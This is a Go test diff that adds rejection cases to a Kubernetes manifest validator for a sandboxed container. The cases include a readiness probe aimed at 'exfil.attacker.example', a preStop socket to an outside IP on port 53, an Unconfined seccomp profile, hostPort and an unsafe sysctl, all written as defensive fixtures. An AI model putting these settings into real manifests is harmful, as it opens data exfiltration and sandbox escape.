@@ -134,6 +134,33 @@ func invariantCases() []invariantCase {
 		{"capabilities", "no securityContext", "no securityContext", func(t *testing.T, b *bundle) {
 			app(b).SecurityContext = nil
 		}},
+		{"capabilities", "user init container keeps the runtime's set", "must drop ALL", func(t *testing.T, b *bundle) {
+			setup := *app(b).DeepCopy()
+			setup.Name = "setup"
+			setup.SecurityContext.Capabilities = nil
+			spec(b).InitContainers = append(spec(b).InitContainers, setup)
+		}},
+		{"pod-security", "hostPort", "Pod Security baseline:latest forbids hostPort", func(t *testing.T, b *bundle) {
+			app(b).Ports = append(app(b).Ports, corev1.ContainerPort{ContainerPort: 3000, HostPort: 3000})
+		}},
+		{"pod-security", "Pod-level seccomp Unconfined", "seccompProfile", func(t *testing.T, b *bundle) {
+			if spec(b).SecurityContext == nil {
+				spec(b).SecurityContext = &corev1.PodSecurityContext{}
+			}
+			spec(b).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		}},
+		{"pod-security", "unsafe sysctl", "forbidden sysctls", func(t *testing.T, b *bundle) {
+			if spec(b).SecurityContext == nil {
+				spec(b).SecurityContext = &corev1.PodSecurityContext{}
+			}
+			spec(b).SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.conf.all.route_localnet", Value: "1"}}
+		}},
+		{"probes", "readiness probe with a host (the kubelet connects from the node)", `httpGet.host "exfil.attacker.example"`, func(t *testing.T, b *bundle) {
+			app(b).ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: "exfil.attacker.example", Port: intstr.FromInt32(80)}}}
+		}},
+		{"probes", "preStop tcpSocket with a host", `tcpSocket.host "203.0.113.7"`, func(t *testing.T, b *bundle) {
+			app(b).Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{TCPSocket: &corev1.TCPSocketAction{Host: "203.0.113.7", Port: intstr.FromInt32(53)}}}
+		}},
 		{"botbox-hardening", "writable root filesystem", "readOnlyRootFilesystem", func(t *testing.T, b *bundle) {
 			container(t, b, nameBotBox).SecurityContext.ReadOnlyRootFilesystem = ptr(false)
 		}},
@@ -269,6 +296,14 @@ func invariantCases() []invariantCase {
 		}},
 		{"config-parses", "args without --config", "no --config", func(t *testing.T, b *bundle) {
 			container(t, b, nameBotBox).Args = []string{"run"}
+		}},
+		{"config-matches-netfilter", "no DNS guard and no DNS servers", "port 53 of any host", func(t *testing.T, b *bundle) {
+			c := container(t, b, nameIPTablesInit)
+			c.Env = slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == "BOTBOX_DNS_GUARD_PORT" })
+			editConfig(t, b, "dns_guard:\n  enabled: true", "dns_guard:\n  enabled: false")
+		}},
+		{"config-matches-netfilter", "guard redirected to, not run", "dns_guard is not enabled", func(t *testing.T, b *bundle) {
+			editConfig(t, b, "dns_guard:\n  enabled: true", "dns_guard:\n  enabled: false")
 		}},
 		{"config-matches-netfilter", "interception off in the config", "is not enabled", func(t *testing.T, b *bundle) {
 			editConfig(t, b, "  enabled: true", "  enabled: false")
